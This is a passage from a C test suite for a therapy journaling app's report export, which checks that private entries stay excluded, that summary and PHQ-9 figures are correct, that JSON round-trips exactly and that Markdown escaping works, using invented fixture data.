/* SPDX-License-Identifier: GPL-3.0-or-later */
/* test-report.c: the report for a therapist: what it leaves out, its summary figures,
 * JSON that reads back field by field, CSV quoting, a year of entries, an empty
 * period, safe writing (bad folders, a full disk, cancelling) and `reframe export`. */

#include "config.h"

#include <cairo.h>
#include <fontconfig/fontconfig.h>
#include <glib/gstdio.h>
#include <math.h>
#include <pango/pangocairo.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/file.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>
#include <utime.h>

#include "reframe-appointment-notes.h"
#include "reframe-assignment-repository.h"
#include "reframe-mood-repository.h"
#include "reframe-questionnaire-score.h"
#include "reframe-report-private.h"
#include "reframe-store.h"
#include "reframe-template-registry.h"
#include "reframe-test-util.h"
#include "reframe-worksheet-repository-private.h"

typedef struct
{
  char                    *root;
  char                    *dir; /* the journal's folder */
  char                    *out_dir;
  ReframeStore            *store;
  ReframeTemplateRegistry *registry;
  char                    *private_entry;
  char                    *special_entry;
  char                    *plain_entry;
  char                    *private_record;
  char                    *record;
  char                    *phq;
} Fixture;

/* What fits on the "disk" of wrap_full_disk(): 100 KB unless a test says otherwise. */
static gsize full_disk_limit = 100 * 1024;

static const char special_note[] =
    "Tea, then \"rest\"\r\nline two,\nline 3 🙂 <b>not bold</b> *not em* | pipe";

static void
fixture_set_up (Fixture      *f,
                gconstpointer data)
{
  g_autoptr (GError) error = NULL;

  f->root = reframe_test_make_tmp_dir ();
  f->dir = g_build_filename (f->root, "data", NULL);
  f->out_dir = g_build_filename (f->root, "out", NULL);
  g_assert_cmpint (g_mkdir (f->out_dir, 0700), ==, 0);
  f->store = reframe_store_open (f->dir, &error);
  g_assert_no_error (error);
  f->registry = reframe_template_registry_new (f->dir, &error);
  g_assert_no_error (error);
}

static void
fixture_tear_down (Fixture      *f,
                   gconstpointer data)
{
  _reframe_report_set_stream_wrapper (NULL);
  _reframe_report_set_sync_func (NULL);
  full_disk_limit = 100 * 1024;
  g_clear_object (&f->registry);
  g_clear_object (&f->store);
  reframe_test_remove_tree (f->root);
  g_free (f->root);
  g_free (f->dir);
  g_free (f->out_dir);
  g_free (f->private_entry);
  g_free (f->special_entry);
  g_free (f->plain_entry);
  g_free (f->private_record);
  g_free (f->record);
  g_free (f->phq);
}

static GDate
day (const char *text)
{
  GDate date;

  g_assert_true (_reframe_report_parse_day (text, &date));
  return date;
}

static char *
add_entry (Fixture           *f,
           const char        *iso_time,
           ReframeMood        mood,
           const char        *note,
           gboolean           private_,
           const char *const *feelings)
{
  g_autoptr (ReframeMoodEntry) entry = reframe_test_entry_at (iso_time, mood, note);
  g_autoptr (GError) error = NULL;

  reframe_mood_entry_set_private (entry, private_);
  reframe_mood_entry_set_feelings (entry, feelings);
  if (feelings != NULL)
    reframe_mood_entry_set_sleep_hours (entry, 7.25);
  g_assert_true (reframe_mood_repository_save (reframe_store_get_moods (f->store), entry, &error));
  g_assert_no_error (error);
  return g_strdup (reframe_mood_entry_get_uuid (entry));
}

static char *
add_worksheet (Fixture    *f,
               const char *template_id,
               const char *answers,
               const char *iso_time,
               gboolean    private_)
{
  return reframe_test_add_worksheet (
      f->store, f->registry, template_id, answers, iso_time, private_);
}

static char *
phq_answers (const char *item,
             const char *item_9)
{
  g_autoptr (GString) json = g_string_new ("{");

  for (guint i = 1; i <= 8; i++)
    g_string_append_printf (json, "\"item_%u\": \"%s\", ", i, item);
  g_string_append_printf (json, "\"item_9\": \"%s\", \"difficulty\": \"somewhat\"}", item_9);
  return g_string_free (g_steal_pointer (&json), FALSE);
}

/* 1–14 March 2026: a bad first week and a good second one, one private entry, one
 * with every character CSV and Markdown care about, thought records (one private),
 * an activity diary, two PHQ-9s and a daily walk done three times. */
static void
populate (Fixture *f)
{
  const char *const feelings[] = { "calm", "tired, a bit", NULL };
  g_autofree char  *previous_phq = phq_answers ("1", "0");
  g_autofree char  *latest_phq = phq_answers ("2", "1");
  g_autofree char  *activities = NULL;
  g_autoptr (ReframeAssignment) walk = reframe_assignment_new ("Walk for 20 minutes", NULL);
  g_autoptr (GError) error = NULL;
  GDate start = day ("2026-03-01");

  for (guint i = 1; i <= 14; i++)
    {
      g_autofree char *time = g_strdup_printf ("2026-03-%02uT09:00:00Z", i);
      g_autofree char *uuid = add_entry (
          f, time, i <= 7 ? REFRAME_MOOD_BAD : REFRAME_MOOD_GOOD, "An ordinary day", FALSE, NULL);

      if (i == 1)
        f->plain_entry = g_steal_pointer (&uuid);
    }
  f->private_entry =
      add_entry (f, "2026-03-03T20:00:00Z", REFRAME_MOOD_GREAT, "secret private note", TRUE, NULL);
  f->special_entry =
      add_entry (f, "2026-03-05T21:30:00+02:00", REFRAME_MOOD_BAD, special_note, FALSE, feelings);
  /* Outside the period. */
  g_free (add_entry (f, "2026-02-27T09:00:00Z", REFRAME_MOOD_AWFUL, "before", FALSE, NULL));
  g_free (add_entry (f, "2026-03-15T09:00:00Z", REFRAME_MOOD_AWFUL, "after", FALSE, NULL));

  f->record = add_worksheet (f,
                             "thought-record",
                             "{\"situation\": \"The meeting, again\", \"emotions\": [{\"name\": "
                             "\"sad\", \"before\": 80, \"after\": 40},"
                             " {\"name\": \"anxious\", \"before\": 60, \"after\": 50}], "
                             "\"hot_thought\": \"I *always* fail\"}",
                             "2026-03-04T10:00:00Z",
                             FALSE);
  f->private_record = add_worksheet (f,
                                     "thought-record",
                                     "{\"situation\": \"private situation\", \"emotions\": "
                                     "[{\"name\": \"ashamed\", \"before\": 90, \"after\": 0}]}",
                                     "2026-03-06T10:00:00Z",
                                     TRUE);
  activities = g_strdup ("{\"activities\": [{\"when\": \"2026-03-08T10:00:00Z\", \"activity\": "
                         "\"Walk with Sam\", \"predicted_mood\": 3, \"mood\": 6},"
                         " {\"when\": \"2026-03-08T15:00:00Z\", \"activity\": \"Call, mum\", "
                         "\"predicted_mood\": 5, \"mood\": 7}]}");
  g_free (add_worksheet (f, "behavioural-activation", activities, "2026-03-08T18:00:00Z", FALSE));
  g_free (add_worksheet (f, "phq-9", previous_phq, "2026-02-20T09:00:00Z", FALSE));
  f->phq = add_worksheet (f, "phq-9", latest_phq, "2026-03-10T09:00:00Z", FALSE);

  reframe_assignment_set_start_date (walk, &start);
  g_assert_true (
      reframe_assignment_repository_save (reframe_store_get_assignments (f->store), walk, &error));
  g_assert_no_error (error);
  for (guint i = 0; i < 3; i++)
    {
      const char *const days[] = { "2026-03-02T18:00:00Z",
                                   "2026-03-05T18:00:00Z",
                                   "2026-03-09T18:00:00Z" };
      g_autoptr (GDateTime) when = g_date_time_new_from_iso8601 (days[i], NULL);

      g_assert_true (reframe_assignment_repository_mark_task_done (
          reframe_store_get_assignments (f->store), walk, when, &error));
      g_assert_no_error (error);
    }
}

static ReframeReportOptions *
options_for (const char *from,
             const char *to)
{
  GDate                 first = day (from), last = day (to);
  ReframeReportOptions *options = reframe_report_options_new (&first, &last);
  g_autoptr (GDateTime) made = g_date_time_new_from_iso8601 ("2026-03-15T08:30:00+01:00", NULL);

  reframe_report_options_set_made (options, made);
  return options;
}

static ReframeReport *
build (Fixture              *f,
       ReframeReportOptions *options)
{
  g_autoptr (GError) error = NULL;
  ReframeReport *report = reframe_report_build (f->store, f->registry, options, NULL, &error);

  g_assert_no_error (error);
  g_assert_nonnull (report);
  return report;
}

static char *
bytes_to_string (GBytes *bytes)
{
  gsize       size = 0;
  const char *data = g_bytes_get_data (bytes, &size);

  g_assert_true (g_utf8_validate (data, size, NULL));
  return g_strndup (data, size);
}

static gboolean
has_uuid (GPtrArray  *items,
          const char *uuid)
{
  for (guint i = 0; i < items->len; i++)
    {
      gpointer    item = g_ptr_array_index (items, i);
      const char *id =
          REFRAME_IS_MOOD_ENTRY (item)
              ? reframe_mood_entry_get_uuid (item)
              : reframe_worksheet_get_uuid (((ReframeReportWorksheet *) item)->worksheet);

      if (g_strcmp0 (id, uuid) == 0)
        return TRUE;
    }
  return FALSE;
}

static ReframeReportItem *
find_candidate (ReframeReport *report,
                const char    *uuid)
{
  GPtrArray *candidates = reframe_report_get_candidates (report);

  for (guint i = 0; i < candidates->len; i++)
    if (g_strcmp0 (((ReframeReportItem *) g_ptr_array_index (candidates, i))->uuid, uuid) == 0)
      return g_ptr_array_index (candidates, i);
  return NULL;
}

static void
test_private (Fixture      *f,
              gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autoptr (ReframeReport) with_private = NULL;
  g_autoptr (ReframeReport) ticked = NULL;
  g_autoptr (GBytes) markdown = NULL;
  g_autoptr (GBytes) json = NULL;
  g_autoptr (GBytes) csv = NULL;
  g_autofree char   *md_text = NULL, *json_text = NULL, *csv_text = NULL;
  ReframeReportItem *item;

  populate (f);
  report = build (f, options);

  /* Left out by default, in every format, and from the figures. */
  g_assert_false (has_uuid (reframe_report_get_entries (report), f->private_entry));
  g_assert_false (has_uuid (reframe_report_get_worksheets (report), f->private_record));
  g_assert_true (has_uuid (reframe_report_get_worksheets (report), f->record));
  g_assert_cmpuint (reframe_report_get_entries (report)->len, ==, 15);
  g_assert_cmpuint (reframe_report_get_n_entries_logged (report), ==, 15);
  markdown = reframe_report_to_markdown (report);
  json = reframe_report_to_json (report);
  csv = reframe_report_to_csv (report);
  md_text = bytes_to_string (markdown);
  json_text = bytes_to_string (json);
  csv_text = bytes_to_string (csv);
  for (guint i = 0; i < 3; i++)
    {
      const char *text = i == 0 ? md_text : i == 1 ? json_text
                                                   : csv_text;

      g_assert_null (strstr (text, "secret private note"));
      g_assert_null (strstr (text, "private situation"));
      g_assert_null (strstr (text, f->private_entry));
      g_assert_null (strstr (text, f->private_record));
    }

  /* The dialog still lists them, unticked. */
  item = find_candidate (report, f->private_entry);
  g_assert_nonnull (item);
  g_assert_true (item->private_);
  g_assert_false (item->included);
  g_assert_cmpint (item->kind, ==, REFRAME_REPORT_ITEM_ENTRY);
  item = find_candidate (report, f->private_record);
  g_assert_nonnull (item);
  g_assert_false (item->included);
  g_assert_cmpint (item->kind, ==, REFRAME_REPORT_ITEM_WORKSHEET);
  g_assert_cmpint (find_candidate (report, f->phq)->kind, ==, REFRAME_REPORT_ITEM_QUESTIONNAIRE);
  g_assert_true (find_candidate (report, f->plain_entry)->included);
  g_assert_cmpuint (reframe_report_get_candidates (report)->len, ==, 16 + 4);

  /* Asked for: all of them. */
  reframe_report_options_set_include_private (options, TRUE);
  with_private = build (f, options);
  g_assert_true (has_uuid (reframe_report_get_entries (with_private), f->private_entry));
  g_assert_true (has_uuid (reframe_report_get_worksheets (with_private), f->private_record));
  g_assert_cmpuint (reframe_report_get_n_entries_logged (with_private), ==, 16);
  g_assert_true (find_candidate (with_private, f->private_entry)->included);

  /* Item by item: one private ticked, one ordinary unticked. */
  reframe_report_options_set_include_private (options, FALSE);
  reframe_report_options_include (options, f->private_entry);
  reframe_report_options_exclude (options, f->plain_entry);
  reframe_report_options_exclude (options, f->record);
  ticked = build (f, options);
  g_assert_true (has_uuid (reframe_report_get_entries (ticked), f->private_entry));
  g_assert_false (has_uuid (reframe_report_get_entries (ticked), f->plain_entry));
  g_assert_false (has_uuid (reframe_report_get_worksheets (ticked), f->record));
  g_assert_false (has_uuid (reframe_report_get_worksheets (ticked), f->private_record));
  g_assert_false (find_candidate (ticked, f->plain_entry)->included);
  g_assert_true (find_candidate (ticked, f->private_entry)->included);
  /* Without the excluded thought record there is none to count. */
  g_assert_cmpuint (reframe_report_get_entries (ticked)->len, ==, 15);
  {
    guint n = 99;

    g_assert_true (isnan (reframe_report_get_emotion_drop (ticked, &n)));
    g_assert_cmpuint (n, ==, 0);
  }
}

static void
test_summary (Fixture      *f,
              gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autoptr (GBytes) markdown = NULL;
  g_autofree char       *text = NULL;
  double                 first = 0, second = 0, predicted = 0, actual = 0;
  guint                  n = 0, done = 0, expected = 0;
  ReframeReportScore    *score;
  ReframeReportHomework *homework;

  populate (f);
  reframe_report_options_set_name (options, "  Alex  ");
  report = build (f, options);

  g_assert_cmpstr (reframe_report_get_name (report), ==, "Alex");
  g_assert_cmpuint (reframe_report_get_days_in_period (report), ==, 14);
  g_assert_cmpuint (reframe_report_get_days_logged (report), ==, 14);
  g_assert_cmpfloat_with_epsilon (reframe_report_get_mean_mood (report), 44.0 / 15, 1e-9);
  g_assert_cmpfloat_with_epsilon (
      reframe_report_get_mood_trend (report, &first, &second), 2.0, 1e-9);
  g_assert_cmpfloat_with_epsilon (first, 2.0, 1e-9);
  g_assert_cmpfloat_with_epsilon (second, 4.0, 1e-9);
  g_assert_nonnull (reframe_report_get_insights (report));

  /* Thought records: (80-40 + 60-50) / 2; the private one is not counted. */
  g_assert_cmpfloat_with_epsilon (reframe_report_get_emotion_drop (report, &n), 25.0, 1e-9);
  g_assert_cmpuint (n, ==, 1);
  g_assert_cmpuint (reframe_report_get_activity_moods (report, &predicted, &actual), ==, 2);
  g_assert_cmpfloat_with_epsilon (predicted, 4.0, 1e-9);
  g_assert_cmpfloat_with_epsilon (actual, 6.5, 1e-9);

  /* The latest PHQ-9 of the period, its change since the one before it, item 9. */
  g_assert_cmpuint (reframe_report_get_scores (report)->len, ==, 1);
  score = g_ptr_array_index (reframe_report_get_scores (report), 0);
  g_assert_cmpstr (score->template_id, ==, "phq-9");
  g_assert_cmpstr (score->worksheet_uuid, ==, f->phq);
  g_assert_cmpint (score->score, ==, 17);
  g_assert_cmpint (score->max_score, ==, 27);
  g_assert_cmpstr (score->band, ==, "Moderately severe");
  g_assert_true (score->has_previous);
  g_assert_cmpint (score->previous_score, ==, 8);
  g_assert_cmpint (score->change, ==, 9);
  g_assert_true (score->safety_flag);
  g_assert_cmpstr (score->safety_field_id, ==, "item_9");
  g_assert_cmpuint (score->n_results, ==, 1);
  g_assert_cmpuint (reframe_report_get_questionnaires (report)->len, ==, 1);

  /* A daily walk over 14 days, done on three. */
  reframe_report_get_homework_totals (report, &done, &expected);
  g_assert_cmpuint (done, ==, 3);
  g_assert_cmpuint (expected, ==, 14);
  homework = g_ptr_array_index (reframe_report_get_homework (report), 0);
  g_assert_cmpstr (reframe_assignment_get_title (homework->assignment), ==, "Walk for 20 minutes");

  markdown = reframe_report_to_markdown (report);
  text = bytes_to_string (markdown);
  g_assert_nonnull (strstr (text, "**Name:** Alex"));
  g_assert_nonnull (strstr (text, "14 of 14 days"));
  g_assert_nonnull (strstr (text, "17 of 27, Moderately severe"));
  g_assert_nonnull (strstr (text, "9 higher than the previous result (8)"));
  g_assert_nonnull (strstr (text, "self-harm"));
  g_assert_nonnull (strstr (text, "done 3 of 14 times"));
  g_assert_nonnull (strstr (text, "25 points weaker"));
  /* Questionnaires item by item, with points. */
  g_assert_nonnull (strstr (text,
                            "| 9 | Thoughts that you would be better off dead or of hurting "
                            "yourself in some way | Several days | 1 |"));
  /* The person's text is escaped, never markup. */
  g_assert_nonnull (strstr (text, "I \\*always\\* fail"));
  g_assert_nonnull (strstr (text, "\\<b\\>not bold\\</b\\>"));
  g_assert_null (strstr (text, "<b>"));
  g_assert_nonnull (strstr (text, "- sad: 80 → 40"));
}

/* Every field of @a and @b agree (@b read back from @a's JSON). */
static void
assert_double_equal (double a,
                     double b)
{
  if (isnan (a))
    g_assert_true (isnan (b));
  else
    g_assert_cmpfloat (a, ==, b);
}

static void
assert_time_equal (GDateTime *a,
                   GDateTime *b)
{
  if (a == NULL)
    {
      g_assert_null (b);
      return;
    }
  g_assert_nonnull (b);
  g_assert_true (g_date_time_equal (a, b));
  g_assert_cmpint (g_date_time_get_utc_offset (a), ==, g_date_time_get_utc_offset (b));
}

static void
assert_strv_equal (const char *const *a,
                   const char *const *b)
{
  g_assert_cmpuint (
      a != NULL ? g_strv_length ((char **) a) : 0, ==, b != NULL ? g_strv_length ((char **) b) : 0);
  for (guint i = 0; a != NULL && a[i] != NULL; i++)
    g_assert_cmpstr (a[i], ==, b[i]);
}

static void
assert_entries_equal (GPtrArray *a,
                      GPtrArray *b)
{
  g_assert_cmpuint (a->len, ==, b->len);
  for (guint i = 0; i < a->len; i++)
    {
      ReframeMoodEntry *x = g_ptr_array_index (a, i), *y = g_ptr_array_index (b, i);

      g_assert_cmpstr (reframe_mood_entry_get_uuid (x), ==, reframe_mood_entry_get_uuid (y));
      g_assert_cmpint (reframe_mood_entry_get_mood (x), ==, reframe_mood_entry_get_mood (y));
      g_assert_cmpstr (reframe_mood_entry_get_note (x), ==, reframe_mood_entry_get_note (y));
      assert_strv_equal (reframe_mood_entry_get_feelings (x), reframe_mood_entry_get_feelings (y));
      assert_strv_equal (reframe_mood_entry_get_activities (x),
                         reframe_mood_entry_get_activities (y));
      g_assert_cmpfloat (
          reframe_mood_entry_get_sleep_hours (x), ==, reframe_mood_entry_get_sleep_hours (y));
      g_assert_cmpint (reframe_mood_entry_get_private (x), ==, reframe_mood_entry_get_private (y));
      assert_time_equal (reframe_mood_entry_get_time (x), reframe_mood_entry_get_time (y));
      assert_time_equal (reframe_mood_entry_get_created (x), reframe_mood_entry_get_created (y));
      assert_time_equal (reframe_mood_entry_get_updated (x), reframe_mood_entry_get_updated (y));
    }
}

static void
assert_worksheets_equal (GPtrArray *a,
                         GPtrArray *b)
{
  g_assert_cmpuint (a->len, ==, b->len);
  for (guint i = 0; i < a->len; i++)
    {
      ReframeReportWorksheet *p = g_ptr_array_index (a, i), *q = g_ptr_array_index (b, i);
      ReframeWorksheet       *x = p->worksheet, *y = q->worksheet;
      g_autoptr (JsonNode) answers_x =
          json_node_init_object (json_node_alloc (), reframe_worksheet_get_answers (x));
      g_autoptr (JsonNode) answers_y =
          json_node_init_object (json_node_alloc (), reframe_worksheet_get_answers (y));

      g_assert_cmpstr (reframe_worksheet_get_uuid (x), ==, reframe_worksheet_get_uuid (y));
      g_assert_cmpstr (
          reframe_worksheet_get_template_id (x), ==, reframe_worksheet_get_template_id (y));
      g_assert_cmpuint (reframe_worksheet_get_template_version (x),
                        ==,
                        reframe_worksheet_get_template_version (y));
      g_assert_cmpint (reframe_worksheet_get_status (x), ==, reframe_worksheet_get_status (y));
      g_assert_cmpint (reframe_worksheet_get_score (x), ==, reframe_worksheet_get_score (y));
      g_assert_cmpstr (reframe_worksheet_get_band (x), ==, reframe_worksheet_get_band (y));
      g_assert_cmpstr (
          reframe_worksheet_get_assignment_uuid (x), ==, reframe_worksheet_get_assignment_uuid (y));
      g_assert_cmpint (reframe_worksheet_get_private (x), ==, reframe_worksheet_get_private (y));
      assert_time_equal (reframe_worksheet_get_created (x), reframe_worksheet_get_created (y));
      assert_time_equal (reframe_worksheet_get_updated (x), reframe_worksheet_get_updated (y));
      assert_time_equal (reframe_worksheet_get_completed_at (x),
                         reframe_worksheet_get_completed_at (y));
      g_assert_true (json_node_equal (answers_x, answers_y));
      g_assert_nonnull (q->template);
      g_assert_cmpstr (
          reframe_template_get_id (p->template), ==, reframe_template_get_id (q->template));
      g_assert_cmpuint (reframe_template_get_version (p->template),
                        ==,
                        reframe_template_get_version (q->template));
      g_assert_cmpstr (
          reframe_template_get_title (p->template), ==, reframe_template_get_title (q->template));
      g_assert_cmpint (reframe_template_get_max_score (p->template),
                       ==,
                       reframe_template_get_max_score (q->template));
    }
}

static void
assert_scores_equal (GPtrArray *a,
                     GPtrArray *b)
{
  g_assert_cmpuint (a->len, ==, b->len);
  for (guint i = 0; i < a->len; i++)
    {
      ReframeReportScore *x = g_ptr_array_index (a, i), *y = g_ptr_array_index (b, i);

      g_assert_cmpstr (x->template_id, ==, y->template_id);
      g_assert_cmpstr (x->title, ==, y->title);
      g_assert_cmpstr (x->worksheet_uuid, ==, y->worksheet_uuid);
      assert_time_equal (x->when, y->when);
      g_assert_cmpint (x->score, ==, y->score);
      g_assert_cmpint (x->max_score, ==, y->max_score);
      g_assert_cmpstr (x->band, ==, y->band);
      g_assert_cmpint (x->has_previous, ==, y->has_previous);
      g_assert_cmpint (x->previous_score, ==, y->previous_score);
      g_assert_cmpint (x->change, ==, y->change);
      g_assert_cmpint (x->safety_flag, ==, y->safety_flag);
      g_assert_cmpstr (x->safety_field_id, ==, y->safety_field_id);
      g_assert_cmpuint (x->n_results, ==, y->n_results);
    }
}

static void
assert_date_equal (const GDate *a,
                   const GDate *b)
{
  g_assert_cmpint (a != NULL && g_date_valid (a), ==, b != NULL && g_date_valid (b));
  if (a != NULL && g_date_valid (a))
    g_assert_cmpint (g_date_compare (a, b), ==, 0);
}

static void
assert_homework_equal (GPtrArray *a,
                       GPtrArray *b)
{
  g_assert_cmpuint (a->len, ==, b->len);
  for (guint i = 0; i < a->len; i++)
    {
      ReframeReportHomework *p = g_ptr_array_index (a, i), *q = g_ptr_array_index (b, i);
      ReframeAssignment     *x = p->assignment, *y = q->assignment;

      g_assert_cmpstr (reframe_assignment_get_uuid (x), ==, reframe_assignment_get_uuid (y));
      g_assert_cmpstr (reframe_assignment_get_title (x), ==, reframe_assignment_get_title (y));
      g_assert_cmpstr (
          reframe_assignment_get_template_id (x), ==, reframe_assignment_get_template_id (y));
      g_assert_cmpint (
          reframe_assignment_get_frequency (x), ==, reframe_assignment_get_frequency (y));
      g_assert_cmpuint (
          reframe_assignment_get_times_per_week (x), ==, reframe_assignment_get_times_per_week (y));
      assert_date_equal (reframe_assignment_get_start_date (x),
                         reframe_assignment_get_start_date (y));
      assert_date_equal (reframe_assignment_get_end_date (x), reframe_assignment_get_end_date (y));
      assert_date_equal (reframe_assignment_get_due_date (x), reframe_assignment_get_due_date (y));
      g_assert_cmpstr (
          reframe_assignment_get_rationale (x), ==, reframe_assignment_get_rationale (y));
      g_assert_cmpstr (
          reframe_assignment_get_therapist_note (x), ==, reframe_assignment_get_therapist_note (y));
      g_assert_cmpint (
          reframe_assignment_get_reminder (x), ==, reframe_assignment_get_reminder (y));
      g_assert_cmpint (
          reframe_assignment_get_archived (x), ==, reframe_assignment_get_archived (y));
      assert_time_equal (reframe_assignment_get_created (x), reframe_assignment_get_created (y));
      assert_time_equal (reframe_assignment_get_updated (x), reframe_assignment_get_updated (y));
      g_assert_cmpuint (p->done, ==, q->done);
      g_assert_cmpuint (p->expected, ==, q->expected);
    }
}

static void
assert_reports_equal (ReframeReport *a,
                      ReframeReport *b)
{
  double     a1, a2, b1, b2, ap, aa, bp, ba;
  guint      an, bn, ad, ae, bd, be;
  GPtrArray *candidates = reframe_report_get_candidates (b);

  assert_date_equal (reframe_report_get_from (a), reframe_report_get_from (b));
  assert_date_equal (reframe_report_get_to (a), reframe_report_get_to (b));
  assert_time_equal (reframe_report_get_made (a), reframe_report_get_made (b));
  g_assert_cmpstr (reframe_report_get_name (a), ==, reframe_report_get_name (b));
  g_assert_cmpint (reframe_report_get_kinds (a), ==, reframe_report_get_kinds (b));
  g_assert_cmpint (
      reframe_report_get_include_private (a), ==, reframe_report_get_include_private (b));
  g_assert_cmpint (reframe_report_is_empty (a), ==, reframe_report_is_empty (b));
  g_assert_cmpuint (
      reframe_report_get_days_in_period (a), ==, reframe_report_get_days_in_period (b));
  g_assert_cmpuint (reframe_report_get_days_logged (a), ==, reframe_report_get_days_logged (b));
  g_assert_cmpuint (
      reframe_report_get_n_entries_logged (a), ==, reframe_report_get_n_entries_logged (b));
  assert_double_equal (reframe_report_get_mean_mood (a), reframe_report_get_mean_mood (b));
  assert_double_equal (reframe_report_get_mood_trend (a, &a1, &a2),
                       reframe_report_get_mood_trend (b, &b1, &b2));
  assert_double_equal (a1, b1);
  assert_double_equal (a2, b2);
  assert_double_equal (reframe_report_get_emotion_drop (a, &an),
                       reframe_report_get_emotion_drop (b, &bn));
  g_assert_cmpuint (an, ==, bn);
  g_assert_cmpuint (reframe_report_get_activity_moods (a, &ap, &aa),
                    ==,
                    reframe_report_get_activity_moods (b, &bp, &ba));
  assert_double_equal (ap, bp);
  assert_double_equal (aa, ba);
  reframe_report_get_homework_totals (a, &ad, &ae);
  reframe_report_get_homework_totals (b, &bd, &be);
  g_assert_cmpuint (ad, ==, bd);
  g_assert_cmpuint (ae, ==, be);
  assert_entries_equal (reframe_report_get_entries (a), reframe_report_get_entries (b));
  assert_worksheets_equal (reframe_report_get_worksheets (a), reframe_report_get_worksheets (b));
  assert_worksheets_equal (reframe_report_get_questionnaires (a),
                           reframe_report_get_questionnaires (b));
  assert_scores_equal (reframe_report_get_scores (a), reframe_report_get_scores (b));
  assert_homework_equal (reframe_report_get_homework (a), reframe_report_get_homework (b));

  /* The file lists only what it shares, all of it ticked. */
  g_assert_cmpuint (candidates->len,
                    ==,
                    reframe_report_get_entries (a)->len + reframe_report_get_worksheets (a)->len +
                        reframe_report_get_questionnaires (a)->len);
  for (guint i = 0; i < candidates->len; i++)
    {
      ReframeReportItem *item = g_ptr_array_index (candidates, i);
      ReframeReportItem *original = find_candidate (a, item->uuid);

      g_assert_nonnull (original);
      g_assert_true (original->included && item->included);
      g_assert_cmpint (original->kind, ==, item->kind);
      g_assert_cmpstr (original->title, ==, item->title);
      assert_time_equal (original->when, item->when);
    }
}

/* Every object in the document's arrays of items has a valid UUID. */
static void
assert_uuids (JsonObject *root)
{
  const char *const arrays[] = { "entries", "worksheets", "questionnaires", "homework" };

  for (guint i = 0; i < G_N_ELEMENTS (arrays); i++)
    {
      JsonArray *array = json_object_get_array_member (root, arrays[i]);

      for (guint j = 0; j < json_array_get_length (array); j++)
        g_assert_true (g_uuid_string_is_valid (
            json_object_get_string_member (json_array_get_object_element (array, j), "uuid")));
    }
}

static void
assert_json_round_trip (ReframeReport *report)
{
  g_autoptr (GBytes) json = reframe_report_to_json (report);
  g_autoptr (GBytes) again = NULL;
  g_autoptr (ReframeReport) read = NULL;
  g_autoptr (JsonParser) parser = json_parser_new ();
  g_autoptr (GError) error = NULL;
  JsonObject *root;

  g_assert_true (json_parser_load_from_data (
      parser, g_bytes_get_data (json, NULL), g_bytes_get_size (json), &error));
  g_assert_no_error (error);
  root = json_node_get_object (json_parser_get_root (parser));
  g_assert_cmpstr (json_object_get_string_member (root, "schema"), ==, "reframe-report");
  g_assert_cmpint (json_object_get_int_member (root, "version"), ==, 1);
  assert_uuids (root);

  read = reframe_report_from_json (json, &error);
  g_assert_no_error (error);
  g_assert_nonnull (read);
  g_assert_null (reframe_report_get_insights (read));
  assert_reports_equal (report, read);
  /* And written again, the same document. */
  again = reframe_report_to_json (read);
  g_assert_true (g_bytes_equal (json, again));
}

static void
test_json (Fixture      *f,
           gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autoptr (GBytes) json = NULL;
  g_autoptr (JsonNode) root = NULL;
  g_autoptr (GError) error = NULL;
  JsonArray  *questionnaires, *items;
  JsonObject *item_9;

  populate (f);
  reframe_report_options_set_name (options, "Alex “A” Doe");
  reframe_report_options_set_include_private (options, TRUE);
  report = build (f, options);
  assert_json_round_trip (report);

  /* Questionnaires item by item: the question, the answer's label and its points. */
  json = reframe_report_to_json (report);
  root = json_from_string (g_bytes_get_data (json, NULL), &error);
  g_assert_no_error (error);
  questionnaires = json_object_get_array_member (json_node_get_object (root), "questionnaires");
  g_assert_cmpuint (json_array_get_length (questionnaires), ==, 1);
  items = json_object_get_array_member (json_array_get_object_element (questionnaires, 0), "items");
  g_assert_cmpuint (json_array_get_length (items), ==, 10);
  item_9 = json_array_get_object_element (items, 8);
  g_assert_cmpstr (json_object_get_string_member (item_9, "field_id"), ==, "item_9");
  g_assert_cmpstr (json_object_get_string_member (item_9, "answer_label"), ==, "Several days");
  g_assert_cmpint (json_object_get_int_member (item_9, "points"), ==, 1);
  g_assert_true (json_object_get_null_member (json_array_get_object_element (items, 9), "points"));

  /* Only some kinds, then another version or another document. */
  {
    g_autoptr (ReframeReportOptions) some = options_for ("2026-03-01", "2026-03-14");
    g_autoptr (ReframeReport) partial = NULL;
    g_autoptr (GBytes) newer =
        g_bytes_new_static ("{\"schema\": \"reframe-report\", \"version\": 2}", 42);
    g_autoptr (GBytes) other =
        g_bytes_new_static ("{\"schema\": \"something\", \"version\": 1}", 38);
    g_autoptr (GBytes) broken =
        g_bytes_new_static ("{\"schema\": \"reframe-report\", \"version\": 1, \"made\": 3}", 53);
    g_autoptr (GBytes) garbage = g_bytes_new_static ("not json", 8);
    GBytes *bad[] = { newer, other, broken, garbage };

    reframe_report_options_set_kinds (some, REFRAME_REPORT_HOMEWORK);
    partial = build (f, some);
    /* Entries were logged, just not chosen: not an empty period. */
    g_assert_false (reframe_report_is_empty (partial));
    assert_json_round_trip (partial);
    g_clear_pointer (&partial, reframe_report_unref);
    reframe_report_options_set_kinds (some,
                                      REFRAME_REPORT_QUESTIONNAIRES | REFRAME_REPORT_HOMEWORK);
    partial = build (f, some);
    g_assert_cmpuint (reframe_report_get_entries (partial)->len, ==, 0);
    g_assert_cmpuint (reframe_report_get_worksheets (partial)->len, ==, 0);
    g_assert_true (isnan (reframe_report_get_mean_mood (partial)));
    assert_json_round_trip (partial);
    for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
      {
        g_autoptr (ReframeReport) none = reframe_report_from_json (bad[i], &error);

        g_assert_null (none);
        g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_INVALID);
        if (i == 0)
          g_assert_nonnull (strstr (error->message, "newer"));
        g_clear_error (&error);
      }
  }
}

/* A small RFC 4180 reader: records of fields, quoted or not; fails on anything else. */
static GPtrArray *
parse_csv (const char *text)
{
  GPtrArray  *records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
